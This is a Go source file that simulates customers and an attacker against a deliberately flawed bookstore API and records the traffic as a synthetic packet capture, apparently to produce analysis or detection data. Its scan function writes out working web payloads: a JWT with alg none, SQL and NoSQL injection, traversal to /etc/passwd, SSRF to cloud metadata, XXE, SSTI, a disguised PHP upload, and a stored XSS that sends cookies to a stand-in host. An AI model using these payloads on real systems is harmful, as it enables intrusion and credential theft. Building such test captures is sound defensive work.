package twin

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"time"

	"plainsight/cmd/internal/pcapgen"
)

// Capture records an hour with the API, its flaws switched on or off. Bytes are
// those of Go's own client and server on loopback; addresses (of loopback too)
// and times are made up.
func Capture(w io.Writer, flawed bool) error {
	wire, err := pcapgen.NewWire(w)
	if err != nil {
		return err
	}
	d := &driver{wire: wire, now: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)}
	d.server = &server{flawed: flawed, clock: func() time.Time { return d.clock(0) }}
	for i, u := range users {
		if err := d.visit(byte(10+i), func(c *client) { d.customer(c, u) }); err != nil {
			return err
		}
	}
	if err := d.visit(200, d.scan); err != nil {
		return err
	}
	// Somebody comes back and reads what the scanner left.
	if err := d.visit(11, func(c *client) { c.get("/reviews", c.login(users[1])) }); err != nil {
		return err
	}
	return wire.Close()
}

type driver struct {
	server *server
	wire   *pcapgen.Wire
	mu     sync.Mutex // guards now and the wire
	now    time.Time
	port   uint16
}

func (d *driver) clock(step time.Duration) time.Time {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.now = d.now.Add(step)
	return d.now
}

// visit lets a client at 127.0.0.host talk to the API over one connection.
func (d *driver) visit(host byte, tell func(*client)) error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: d.server, ReadHeaderTimeout: 10 * time.Second, ErrorLog: log.New(io.Discard, "", 0)}
	served := make(chan struct{})
	go func() {
		defer close(served)
		srv.Serve(l)
	}()
	var taps []*tap
	dial := func(ctx context.Context, _, _ string) (net.Conn, error) {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", l.Addr().String())
		if err != nil {
			return nil, err
		}
		d.mu.Lock()
		defer d.mu.Unlock()
		d.port++
		d.now = d.now.Add(time.Millisecond)
		t := &tap{Conn: conn, driver: d, wire: d.wire.Open(netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 0, host}), 40000+d.port), netip.MustParseAddrPort("127.0.0.1:8080"), d.now)}
		taps = append(taps, t)
		return t, nil
	}
	c := &client{driver: d, agent: "shop-app/3.2", http: &http.Client{Timeout: 20 * time.Second,
		Transport: &http.Transport{DialContext: dial, MaxConnsPerHost: 1, DisableCompression: true}}}
	tell(c)
	c.http.CloseIdleConnections()
	srv.Close()
	<-served
	for _, t := range taps {
		t.wire.Close(d.clock(time.Millisecond))
	}
	return c.err
}

// tap is a client's connection whose bytes are put on the wire as they pass.
type tap struct {
	net.Conn
	driver *driver
	wire   *pcapgen.Conn
}

func (t *tap) Write(b []byte) (int, error) {
	t.record(0, b) // before it is sent: the answer must not be recorded first
	return t.Conn.Write(b)
}

func (t *tap) Read(b []byte) (int, error) {
	n, err := t.Conn.Read(b)
	t.record(1, b[:n])
	return n, err
}

func (t *tap) record(from int, b []byte) {
	t.driver.mu.Lock()
	defer t.driver.mu.Unlock()
	t.driver.now = t.driver.now.Add(400 * time.Microsecond)
	t.wire.Data(from, b, t.driver.now)
}

// client is one user of the API. Its first error ends it.
type client struct {
	driver        *driver
	http          *http.Client
	agent, origin string
	err           error
}

func (c *client) do(method, target, token, kind, body string) map[string]any {
	if c.err != nil {
		return nil
	}
	c.driver.clock(300 * time.Millisecond)
	r, err := http.NewRequest(method, "http://api.books.example:8080"+target, strings.NewReader(body))
	if err != nil {
		c.err = err
		return nil
	}
	r.Header.Set("User-Agent", c.agent)
	if c.origin != "" {
		r.Header.Set("Origin", c.origin)
	}
	if body != "" {
		r.Header.Set("Content-Type", kind)
	}
	if token != "" {
		r.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.http.Do(r)
	if err != nil {
		c.err = err
		return nil
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		c.err = err
	}
	var out map[string]any
	_ = json.Unmarshal(raw, &out) // many answers are no objects
	return out
}

func (c *client) get(target, token string) map[string]any { return c.do("GET", target, token, "", "") }

func (c *client) post(target, token, body string) map[string]any {
	return c.do("POST", target, token, "application/json", body)
}

func (c *client) login(u user) string {
	return fmt.Sprint(c.post("/login", "", fmt.Sprintf(`{"username":%q,"password":%q}`, u.Name, u.password))["token"])
}

// customer is an everyday visit: a password mistyped, pages, orders, a refresh.
func (d *driver) customer(c *client, u user) {
	c.post("/users", "", fmt.Sprintf(`{"username":%q}`, u.Name))
	c.post("/users", "", fmt.Sprintf(`{"username":"%s-2"}`, u.Name))
	c.post("/login", "", fmt.Sprintf(`{"username":%q,"password":%q}`, u.Name, u.password+"x"))
	token := c.login(u)
	c.get("/me", token)
	for n := range 3 {
		c.get(fmt.Sprintf("/books?page=%d&limit=10", n+1), token)
	}
	for n := range 5 {
		c.get(fmt.Sprint("/books/", 3+n*7), token)
	}
	c.get("/books/search?title="+url.QueryEscape("it is a wonderful world"), token)
	c.get("/books/search?title=O%27Reilly%20and%20sons", token)
	for n := range 2 {
		auth := token
		if d.server.flawed {
			auth = "" // the app never had to send it here
		}
		c.get(fmt.Sprint("/orders/", 500+u.ID*10+n), auth)
	}
	c.get(fmt.Sprint("/payments/", 900+u.ID), token)
	c.post("/graphql", token, `{"query":"{books{title author{name}}}"}`)
	c.get("/files?name=terms.txt", token)
	c.post("/fetch", token, `{"url":"https://cdn.books.example/cover.png"}`)
	c.get("/greeting?name="+u.Name, token)
	c.get("/hello?name="+u.Name, token)
	c.do("POST", "/orders/import", token, "application/xml", "<order><book>7</book></order>")
	c.get("/missing", token)
	if u.Role == "admin" {
		c.get("/users", token)
		c.get("/admin/users", token)
	}
	if d.server.flawed {
		c.get("/invoices?access_token="+token, "") // links that the server puts into mails
	} else {
		c.get("/invoices", token)
	}
	for range 2 {
		c.get(fmt.Sprint("/users/", u.ID), token)
		c.get(fmt.Sprint("/statements?account=", 7000+u.ID), token)
	}
	c.get("/reviews", token)
	c.get("/me", c.login(u))
}

// scan is a tester with a customer's account who tries all of it.
func (d *driver) scan(c *client) {
	c.agent, c.origin = "Mozilla/5.0 (compatible; Nuclei - Open-source)", "https://elsewhere.example"
	u := users[0]
	token := c.login(u)
	c.get("/me", token)
	b := base64.RawURLEncoding
	none := b.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`)) + "." + b.EncodeToString(fmt.Appendf(nil, `{"sub":"1","role":"admin","exp":%d}`, d.clock(0).Unix()+900)) + "."
	c.get("/me", none)
	old := d.server.sign(map[string]any{"sub": "11", "iat": d.clock(0).Unix() - 90000, "exp": d.clock(0).Unix() - 86400})
	c.get("/me", old)
	c.get("/me", old)
	c.get("/users", "")
	c.get("/users/debug", "")
	c.get("/admin/users", "")
	c.get("/actuator/env", "")
	c.get("/books?limit=100000", token)
	c.get("/books/x%27", token)
	c.get("/books/search?title="+url.QueryEscape("x' UNION SELECT name FROM users--"), token)
	c.get("/files?name=../../../etc/passwd", token)
	c.post("/fetch", token, `{"url":"http://169.254.169.254/latest/meta-data/"}`)
	c.post("/login", "", `{"username":"root-ops","password":{"$ne":""}}`)
	c.get("/greeting?name="+url.QueryEscape("{{191*7}}"), token)
	c.get("/hello?name="+url.QueryEscape("<script>alert(1)</script>"), token)
	c.do("POST", "/orders/import", token, "application/xml", `<!DOCTYPE o [<!ENTITY e SYSTEM "file:///etc/passwd">]><order><book>&e;</book></order>`)
	c.do("POST", "/files", token, "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n")
	c.post("/users", "", `{"username":"eve","role":"admin"}`)
	c.post("/graphql", "", `{"query":"{__schema{types{name}}}"}`)
	c.post("/graphql", token, fmt.Sprintf(`{"query":%q}`, strings.Repeat("{author", 14)+strings.Repeat("}", 14)))
	c.post("/graphql", token, "["+strings.Repeat(`{"query":"{books{title}}"},`, 14)+`{"query":"{books{title}}"}]`)
	c.post("/reviews", token, `{"text":"<script>fetch('https://elsewhere.example/?c='+document.cookie)</script>"}`)
	c.get("/statements?account=7011&account=7001", token)
	c.get("/beta/books", token)
	for i := range 120 { // three a second
		c.post("/login", "", fmt.Sprintf(`{"username":"priya","password":"guess-%d"}`, i))
	}
	for i := range 40 {
		c.get(fmt.Sprintf("/backup-%d/", i), "")
	}
}
